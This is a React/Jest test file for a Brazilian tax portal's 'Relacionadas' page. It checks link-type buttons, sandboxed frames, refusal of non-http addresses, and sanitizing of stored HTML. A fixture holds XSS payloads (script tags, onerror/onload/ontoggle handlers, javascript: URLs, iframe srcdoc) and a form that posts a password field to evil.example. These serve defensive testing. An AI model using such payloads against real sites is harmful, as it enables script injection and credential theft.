// DECISIONS.md 9 in the DOM: what each link type's button does, and that hostile HTML in a
// type-2 post reaches the page with no script and no event handler.
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { fakeSupabase } from '@semmultas/shared/testing/test-supabase.ts';
import { locationRef, renderRemote } from '@semmultas/shared/testing/render-remote.tsx';
import App from '../../../expose/app';

const HOSTILE = `
  <h1>Guia do ICMS</h1>
  <p>Texto <strong>legítimo</strong> do documento.</p>
  <script>window.__pwned = 'script'</script>
  <img src="x" onerror="window.__pwned = 'onerror'" alt="figura">
  <svg onload="window.__pwned = 'svg'"><circle r="1"/></svg>
  <a href="javascript:window.__pwned='href'" onclick="window.__pwned='click'">clique</a>
  <a href="https://www.confaz.fazenda.gov.br/">CONFAZ</a>
  <iframe src="https://evil.example/" srcdoc="<script>parent.__pwned='frame'</script>"></iframe>
  <form action="https://evil.example/"><input name="senha"><button>Enviar</button></form>
  <div style="background:url(javascript:alert(1))" onmouseover="window.__pwned='hover'">passe aqui</div>
  <details open ontoggle="window.__pwned='toggle'"><summary>mais</summary>detalhe</details>
  <math><mi xlink:href="javascript:alert(1)">x</mi></math>
  <object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
`;

const rows = () => [
  {
    id: 1,
    state_id: 29,
    title: 'Portal do CONFAZ',
    description: 'Convênios e ajustes',
    link_url: 'https://www.confaz.fazenda.gov.br/',
    type_link: 0,
    html_archive: null,
  },
  {
    id: 2,
    state_id: 29,
    title: 'Portal do Simples Nacional',
    description: null,
    link_url: 'https://www8.receita.fazenda.gov.br/simplesnacional/',
    type_link: 1,
    html_archive: null,
  },
  { id: 3, state_id: 29, title: 'Guia do ICMS', description: 'Documento interno', link_url: null, type_link: 2, html_archive: HOSTILE },
  { id: 4, state_id: 29, title: 'Botão estranho', description: null, link_url: 'https://x.gov.br/', type_link: 7, html_archive: null },
  { id: 5, state_id: 29, title: 'Link quebrado', description: null, link_url: 'javascript:alert(1)', type_link: 1, html_archive: null },
];

function setup(plan: 'premium' | 'free' = 'premium', posts = rows()) {
  const db = fakeSupabase({ posts });
  renderRemote(App, { basePath: '/relacionadas', supabase: db.client, plan });
  return db;
}

declare global {
  interface Window {
    __pwned?: string;
  }
}

afterEach(() => {
  delete window.__pwned;
});

describe('post buttons by link type', () => {
  it('asks for the posts of state 29 without their HTML', async () => {
    const db = setup();
    await screen.findByRole('button', { name: /^Portal do CONFAZ/ });
    expect(db.calls[0]).toBe('posts: id, title, description, link_url, state_id, type_link, frame_allowed; state_id in (29)');
  });

  it('type 1 is a link to a new tab with noopener and noreferrer', async () => {
    setup();
    const link = await screen.findByRole('link', { name: /^Portal do Simples Nacional.*Abre em nova aba$/ });
    expect(link).toHaveAttribute('href', 'https://www8.receita.fazenda.gov.br/simplesnacional/');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link.getAttribute('rel')?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  });

  it("type 0 opens a sandboxed frame with a visible 'Abrir em nova aba' link", async () => {
    setup();
    await userEvent.click(await screen.findByRole('button', { name: /^Portal do CONFAZ/ }));
    const dialog = await screen.findByRole('dialog');
    const frame = dialog.querySelector('iframe')!;
    expect(frame).toHaveAttribute('src', 'https://www.confaz.fazenda.gov.br/');
    expect(frame).toHaveAttribute('title', 'Portal do CONFAZ');
    const sandbox = frame.getAttribute('sandbox')!.split(' ');
    expect(sandbox).toContain('allow-scripts');
    expect(sandbox).not.toContain('allow-top-navigation');
    const out = within(dialog).getByRole('link', { name: 'Abrir em nova aba' });
    expect(out).toHaveAttribute('href', 'https://www.confaz.fazenda.gov.br/');
    expect(out).toHaveAttribute('target', '_blank');
    expect(out).toHaveAttribute('rel', 'noopener noreferrer');
    expect(locationRef.current).toBe('/relacionadas?publicacao=1');
  });

  it('type 2 shows the stored HTML with no script, no handler and no dangerous element', async () => {
    const db = setup();
    await userEvent.click(await screen.findByRole('button', { name: /^Guia do ICMS/ }));
    const dialog = await screen.findByRole('dialog');
    const sheet = await within(dialog).findByRole('article', { name: 'Guia do ICMS' });
    expect(db.calls).toContain('posts: html_archive; id=3');
    expect(within(sheet).getByText('legítimo')).toBeInTheDocument();
    expect(within(sheet).getByRole('link', { name: 'CONFAZ' })).toHaveAttribute('rel', 'noopener noreferrer');

    expect(sheet.querySelectorAll('script, iframe, form, input, button, object, embed, style').length).toBe(0);
    for (const el of Array.from(sheet.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        expect(attr.name).not.toMatch(/^on/i);
        expect(attr.name).not.toBe('style');
        expect(attr.name).not.toBe('srcdoc');
        expect(attr.value).not.toMatch(/javascript:/i);
      }
    }
    // Let anything that could fire (image error, svg load) have its chance.
    await new Promise((r) => setTimeout(r, 50));
    await userEvent.hover(within(sheet).getByText('passe aqui'));
    await userEvent.click(within(sheet).getByText('clique'));
    expect(window.__pwned).toBeUndefined();
  });

  it("an unknown type says 'Tipo de link desconhecido.' and opens nothing", async () => {
    setup();
    await userEvent.click(await screen.findByRole('button', { name: /^Botão estranho/ }));
    expect(await screen.findByText('Tipo de link desconhecido.')).toBeInTheDocument();
    expect(screen.queryByRole('dialog')).toBeNull();
  });

  it('an address that is not http(s) never becomes a link', async () => {
    setup();
    const button = await screen.findByRole('button', { name: /^Link quebrado/ });
    expect(button.closest('a')).toBeNull();
    await userEvent.click(button);
    expect(await screen.findByText('O endereço desta publicação é inválido.')).toBeInTheDocument();
  });

  it('closing the dialog takes the parameter out of the address', async () => {
    setup();
    await userEvent.click(await screen.findByRole('button', { name: /^Portal do CONFAZ/ }));
    const dialog = await screen.findByRole('dialog');
    await userEvent.keyboard('{Escape}');
    await waitFor(() => expect(locationRef.current).toBe('/relacionadas'));
    expect(dialog).not.toBeInTheDocument();
  });

  it('a link to an opened post opens it', async () => {
    const db = fakeSupabase({ posts: rows() });
    renderRemote(App, { basePath: '/relacionadas', path: '/relacionadas?publicacao=3', supabase: db.client });
    expect(await screen.findByRole('article', { name: 'Guia do ICMS' })).toBeInTheDocument();
  });
});

describe('Relacionadas page states', () => {
  it('shows the title and the empty message', async () => {
    setup('premium', []);
    expect(screen.getByRole('heading', { level: 2, name: 'Relacionadas' })).toBeInTheDocument();
    expect(await screen.findByText('Nenhuma publicação relacionada encontrada.')).toBeInTheDocument();
  });

  it('explains a refusal by the database instead of a blank page', async () => {
    setup('free', []);
    expect(await screen.findByRole('heading', { name: 'Conteúdo exclusivo do plano Premium' })).toBeInTheDocument();
  });

  it("says 'Erro ao carregar dados' and loads again on 'Tentar novamente'", async () => {
    const spy = jest.spyOn(console, 'error').mockImplementation(() => {});
    const db = fakeSupabase({ posts: rows() });
    db.fail = { message: 'rede fora', code: '' };
    renderRemote(App, { basePath: '/relacionadas', supabase: db.client });
    expect(await screen.findByText('Erro ao carregar dados')).toBeInTheDocument();
    db.fail = null;
    await userEvent.click(screen.getByRole('button', { name: 'Tentar novamente' }));
    expect(await screen.findByRole('button', { name: /^Portal do CONFAZ/ })).toBeInTheDocument();
    spy.mockRestore();
  });
});
